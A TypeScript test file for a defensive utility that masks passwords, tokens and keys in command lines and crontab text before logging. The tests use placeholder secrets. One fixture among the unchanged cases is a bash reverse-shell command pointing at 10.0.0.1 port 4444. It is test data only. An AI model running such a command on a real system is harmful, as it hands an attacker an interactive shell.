import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { maskArguments, maskText } from "./mask.ts";
import { isSecretName } from "./secret-names.ts";

const GITHUB = `ghp_${"a1B2".repeat(9)}`;
const JWT = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${"x".repeat(43)}`;

describe("secrets in arguments are hidden", () => {
  test.each([
    [["app", "--password=hunter2"], "app --password=***"],
    [["app", "--password", "hunter2", "--port", "80"], "app --password *** --port 80"],
    [["app", "--db-password", "with blank and --dashes"], "app --db-password ***"],
    [["app", "-token", "abc"], "app -token ***"],
    [["app", "--password=a&b;c d"], "app --password=***"],
    [
      ["env", "DB_PASSWORD=hunter2", "AWS_SECRET_ACCESS_KEY=abc/d+g", "make"],
      "env DB_PASSWORD=*** AWS_SECRET_ACCESS_KEY=*** make",
    ],
    [["java", "-DdbPassword=hunter2", "-jar", "a.jar"], "java -DdbPassword=*** -jar a.jar"],
    [["helm", "--set", "db.password=hunter2"], "helm --set db.password=***"],
    [["helm", "--set=db.password=hunter2,x=1"], "helm --set=db.password=***,x=1"],
    [["mysql", "-u", "root", "-phunter2", "shop"], "mysql -u root -p*** shop"],
    [["/usr/bin/mysqldump", "-phunter2"], "/usr/bin/mysqldump -p***"],
    [["sshpass", "-p", "hunter2", "ssh", "-p", "22", "host"], "sshpass -p *** ssh -p *** host"],
    [["curl", "-u", "alice:hunter2", "https://h"], "curl -u alice:*** https://h"],
    [["curl", "-ualice:hunter2", "https://h"], "curl -ualice:*** https://h"],
    [["curl", "--user=alice:hunter2", "https://h"], "curl --user=alice:*** https://h"],
    [["curl", "-H", "Authorization: Bearer abc.def"], "curl -H Authorization: ***"],
    [["curl", "-H", "X-Api-Key: abc"], "curl -H X-Api-Key: ***"],
    [["curl", "-d", '{"user":"a","password":"hun ter2"}'], 'curl -d {"user":"a","password":"***"}'],
    [["curl", "https://h/?x=1&api_key=abc&y=2"], "curl https://h/?x=1&api_key=***&y=2"],
    [["git", "clone", "https://alice:hunter2@host/repo"], "git clone https://alice:***@host/repo"],
    [["psql", "postgres://app:pass/word@db:5432/shop"], "psql postgres://app:***@db:5432/shop"],
    [["docker", "login", "-u", "a", "-p", "hunter2"], "docker login -u a -p ***"],
    [["openssl", "enc", "-passin", "pass:hunter2"], "openssl enc -passin ***"],
    [["smbclient", "-U", "alice%hunter2"], "smbclient -U alice%***"],
    [["run", GITHUB], "run ***"],
    [["run", `x=${JWT}`], "run x=***"],
    [["aws", "AKIAIOSFODNN7EXAMPLE"], "aws ***"],
    [["sh", "-c", "mysql -phunter2 shop | gzip"], "sh -c mysql -p*** shop | gzip"],
    [["sh", "-c", "TOKEN='a b' run --password 'x y' z"], "sh -c TOKEN='***' run --password '***' z"],
    [["ssh-add", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END x"], "ssh-add ***-----END x"],
    [["sqlcmd", "Server=h;User=sa;Pwd=hunter2;Encrypt=no"], "sqlcmd Server=h;User=sa;Pwd=***;Encrypt=no"],
    [["curl", "-HAuthorization: Basic hunter2", "https://h"], "curl -HAuthorization: *** https://h"],
    [["curl", "-u", "alice:hun ter2", "-H", "x"], "curl -u alice:*** -H x"],
    [["curl", "-ualice:hun ter2"], "curl -ualice:***"],
    [["mysql", "-phun ter2", "shop"], "mysql -p*** shop"],
    [["curl", "-b", "session=hunter2; x=hunter2"], "curl -b session=***"],
    [["curl", "https://h/?sv=1&sig=hunter2&X-Amz-Signature=abc"], "curl https://h/?sv=1&sig=***&X-Amz-Signature=***"],
    [["curl", "https://hooks.slack.com/services/T0/B0/abc"], "curl https://hooks.slack.com/services/***"],
    [["git", "clone", "https://hunter2-hunter2-hunter2@host/repo"], "git clone https://***@host/repo"],
    [["http", "-a", "alice:hunter2", "https://h"], "http -a alice:*** https://h"],
    [["lftp", "-u", "alice,hunter2", "host"], "lftp -u alice,*** host"],
    [["az", "login", "-u", "alice", "-p", "hunter2"], "az login -u alice -p ***"],
    [["snmpget", "-v3", "-A", "hunter2", "-X", "hunter2", "h"], "snmpget -v3 -A *** -X *** h"],
    [["nmcli", "dev", "wifi", "connect", "net", "password", "hunter2"], "nmcli dev wifi connect net password ***"],
    [["xfreerdp", "/u:alice", "/p:hunter2", "/v:h"], "xfreerdp /u:alice /p:*** /v:h"],
    [["aws", "configure", "set", "aws_secret_access_key", "hunter2"], "aws configure set aws_secret_access_key ***"],
    [["app", "--pass-phrase", "hunter2", "--jwt", "abc"], "app --pass-phrase *** --jwt ***"],
  ])("%j", (args, expected) => {
    const masked = maskArguments(args);
    expect(masked).toBe(expected);
    for (const secret of ["hunter2", "abc", "hun ter2", GITHUB, JWT]) expect(masked).not.toContain(secret);
  });
});

describe("what is no secret is kept, so that rules can look at it", () => {
  test.each([
    [["ssh", "-p", "22", "host"]],
    [["mkdir", "-p", "/tmp/x"]],
    [["docker", "run", "-p", "80:80", "nginx"]],
    [["app", "--password-file=/run/secret", "--token-ttl", "3600", "--max-tokens=100"]],
    [["docker", "login", "--password-stdin", "host"]],
    [["psql", "--no-password", "shop"]],
    [["bash", "-c", "PWD=/tmp OLDPWD=/ ls"]],
    [["curl", "http://localhost:8080/a@b"]],
    [["git", "clone", "ssh://git@host/repo"]],
    [["git", "clone", "https://alice@host/repo"]],
    [["curl", "-b", "cookies.txt", "https://h"]],
    [["helm", "install", "-p", "x"]],
    [["node", "--tokenizer", "x", "--author=me", "12:30"]],
    [["bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0>&1"]],
    [["", "a  b", ""]],
  ])("%j", (args) => {
    expect(maskArguments(args)).toBe(args.join(" "));
  });
});

test("a line of a crontab is read like a command line", () => {
  expect(maskText("cd /srv && mysql -phunter2 < a.sql; curl -u a:hunter2 https://h")).toBe(
    "cd /srv && mysql -p*** < a.sql; curl -u a:*** https://h",
  );
});

test.each(["password", "DB_PASSWORD", "dbPassword", "api-key", "X-Auth-Token", "client_secret", "db.pwd", "sslPass"])(
  "%s names a secret",
  (name) => expect(isSecretName(name)).toBe(true),
);

test.each([
  "PWD",
  "password_file",
  "tokenizer",
  "max_tokens",
  "author",
  "path",
  "compass",
  "key",
  "secret-name",
  "",
  "-",
])("%s names none", (name) => expect(isSecretName(name)).toBe(false));

test("where each of joined arguments ends is not guessed: the rest of the line is kept", () => {
  expect(maskText("app --password=hunter2 --port 80")).toBe("app --password=*** --port 80");
});

test("no arguments make it throw, and only parts of a text are ever taken away", () => {
  const word = fc.oneof(
    fc.string({ unit: "grapheme" }),
    fc.constantFrom("--password", "mysql", "-p", "-u", "a:b@", "://", '"', "="),
  );
  fc.assert(
    fc.property(fc.array(word, { maxLength: 8 }), (args) => {
      const masked = maskArguments(args);
      let at = 0;
      for (const part of masked.split("***")) {
        const found = args.join(" ").indexOf(part, at);
        expect(found).toBeGreaterThanOrEqual(at);
        at = found + part.length;
      }
    }),
  );
});
